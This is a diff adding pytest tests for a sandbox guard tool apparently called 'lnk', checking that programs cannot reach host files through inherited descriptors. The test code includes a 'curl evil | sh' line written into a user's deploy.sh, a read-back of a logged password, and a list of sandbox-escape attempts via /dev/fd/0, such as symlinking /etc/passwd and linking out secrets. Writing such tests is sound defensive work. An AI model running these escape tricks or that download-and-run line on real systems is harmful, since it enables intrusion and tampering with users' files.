@@ -1013,3 +1013,137 @@ def test_log_holds_no_path_headers_or_body(lnk, home):
     for p in (home / ".lnk").rglob("*"):
         if p.is_file():
             assert b"s3cr3t" not in p.read_bytes(), p
+
+
+# --- the guard's descriptors and addresses ---
+#
+# The guard opens, links, renames and binds for the program. Whatever path
+# or descriptor names the object, it must never give more than the
+# program's descriptor already gives (its access mode), nor reach anything
+# beneath a descriptor that the sandbox's grants do not hold: an inherited
+# stdin, stdout or folder is the host's, outside every grant.
+
+FD_VIAS = ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0",
+           "/proc/thread-self/fd/0"]
+
+
+def test_host_stdin_not_writable_through_reopen(lnk, work, tmp_path):
+    """Threat: `./prog < deploy.sh`: open("/dev/stdin", O_WRONLY|O_CREAT)
+    reopened for writing by the guard, and the program rewrites the
+    user's deploy.sh, which the user runs next."""
+    deploy = tmp_path / "deploy.sh"
+    deploy.write_text("echo deploying\n")
+    with open(deploy, "rb") as stdin:
+        cp = py(lnk, f"""
+            import os
+            for via in {FD_VIAS!r}:
+                for fl in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT,
+                           os.O_WRONLY | os.O_CREAT | os.O_TRUNC,
+                           os.O_RDONLY | os.O_CREAT | os.O_TRUNC,
+                           os.O_WRONLY | os.O_CREAT | os.O_APPEND):
+                    try:
+                        fd = os.open(via, fl, 0o644)
+                    except OSError as e:
+                        print("refused", via, fl, e.errno); continue
+                    try:
+                        os.write(fd, b"curl evil | sh\\n"); print("WROTE", via)
+                    except OSError as e:
+                        print("opened", via, fl, e.errno)
+            # reading it again stays possible: no more than the fd has
+            fd = os.open("/dev/stdin", os.O_RDONLY | os.O_CREAT)
+            print("read", os.read(fd, 100))
+        """, "--write", work, stdin=stdin)
+    assert deploy.read_text() == "echo deploying\n", cp.stdout + cp.stderr
+    assert "WROTE" not in cp.stdout, cp.stdout
+    assert cp.stdout.count("refused") == 20, cp.stdout + cp.stderr
+    assert "read b'echo deploying\\n'" in cp.stdout, cp.stdout + cp.stderr
+
+
+def test_host_stdout_not_readable_through_reopen(lnk, work, tmp_path):
+    """Threat: `./prog >> app.log`: open("/dev/stdout", O_RDWR|O_CREAT)
+    reads back what other programs wrote to the host's log."""
+    log = tmp_path / "app.log"
+    log.write_text("password=hunter2\n")
+    # lnk's own stdout is the test's pipe: the log reaches the program as
+    # its stdin, which a shell inside makes its stdout
+    with open(log, "ab") as out:
+        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
+                     'exec "$0" -c "$1" 1>&0 0</dev/null', PY,
+                     textwrap.dedent("""
+            import os, sys
+            for via in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
+                for fl in (os.O_RDWR | os.O_CREAT, os.O_RDONLY | os.O_CREAT):
+                    try:
+                        fd = os.open(via, fl)
+                        os.lseek(fd, 0, 0)
+                        sys.stderr.write("READ %r\\n" % os.read(fd, 100))
+                    except OSError as e:
+                        sys.stderr.write("refused %d\\n" % e.errno)
+            # writing, as the descriptor allows, still works
+            fd = os.open("/dev/stdout", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+            os.write(fd, b"appended\\n")
+        """), stdin=out, timeout=60)
+    assert "hunter2" not in cp.stderr, cp.stderr
+    assert "READ" not in cp.stderr, cp.stderr
+    assert cp.stderr.count("refused") == 6, cp.stderr
+    assert log.read_text() == "password=hunter2\nappended\n"
+
+
+HOST_DIR_ATTACKS = {
+    "create-dev-stdin": 'os.close(os.open("/dev/stdin/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dev-fd": 'os.close(os.open("/dev/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-proc-fd": 'os.close(os.open("/proc/self/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dirfd": 'os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=0))',
+    "create-fchdir": 'os.fchdir(0); os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dotdot-beneath": 'os.close(os.open("/dev/fd/0/sub/../f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "read-existing-creat": 'print("READ", os.read(os.open("/dev/fd/0/secret", os.O_RDONLY | os.O_CREAT), 100))',
+    "write-existing-creat": 'os.write(os.open("/dev/fd/0/secret", os.O_WRONLY | os.O_CREAT), b"x")',
+    "mkdir-git": 'os.mkdir("/dev/fd/0/.git")',
+    "mkdir-sub": 'os.mkdir("/dev/stdin/newdir")',
+    "mkdir-dirfd": 'os.mkdir("newdir", dir_fd=0)',
+    "mkfifo": 'os.mkfifo("/dev/fd/0/fifo")',
+    "symlink": 'os.symlink("/etc/passwd", "/dev/fd/0/l")',
+    "link-in": 'open("t", "w").close(); os.link("t", "/dev/fd/0/l")',
+    "link-out": 'os.link("/dev/fd/0/secret", "stolen")',
+    "link-out-follow": 'os.link("/proc/self/fd/0/secret", "stolen", follow_symlinks=True)',
+    "rename-in": 'open("t", "w").close(); os.rename("t", "/dev/fd/0/moved")',
+    "rename-out": 'os.rename("/dev/fd/0/secret", "stolen")',
+    "rename-within": 'os.rename("/dev/fd/0/secret", "/dev/fd/0/secret2")',
+    "bind-unix": 'socket.socket(socket.AF_UNIX).bind("/dev/fd/0/sock")',
+}
+
+
+@pytest.mark.parametrize("way", sorted(HOST_DIR_ATTACKS))
+def test_host_folder_descriptor_not_written(lnk, work, tmp_path, way):
+    """Threat: a host folder given as a descriptor (fd 0 here; a shell
+    cannot `< dir`, a program that starts lnk can): the guard creates,
+    links, renames or binds beneath it, or opens what is in it, though no
+    grant holds it (`mkdir /dev/fd/0/.git` in the host's folder)."""
+    host = tmp_path / "hostdir"
+    host.mkdir()
+    (host / "sub").mkdir()
+    (host / "secret").write_text("s3cret\n")
+    before = sorted(p.name for p in host.rglob("*"))
+    dfd = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
+    # Python will not start with a folder as its stdin: a shell inside
+    # moves it to fd 3, and the program puts it back on 0.
+    code = textwrap.dedent(f"""
+        import os, socket
+        os.dup2(3, 0)
+        try:
+            {HOST_DIR_ATTACKS[way]}
+            print("DONE")
+        except OSError as e:
+            print("refused", e.errno)
+    """)
+    try:
+        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
+                     'exec "$0" -c "$1" 3<&0 0</dev/null', PY, code,
+                     stdin=dfd, timeout=60)
+    finally:
+        os.close(dfd)
+    assert sorted(p.name for p in host.rglob("*")) == before, cp.stdout
+    assert (host / "secret").read_text() == "s3cret\n"
+    assert "s3cret" not in cp.stdout, cp.stdout
+    assert not (work / "stolen").exists()
+    assert "refused" in cp.stdout, cp.stdout + cp.stderr
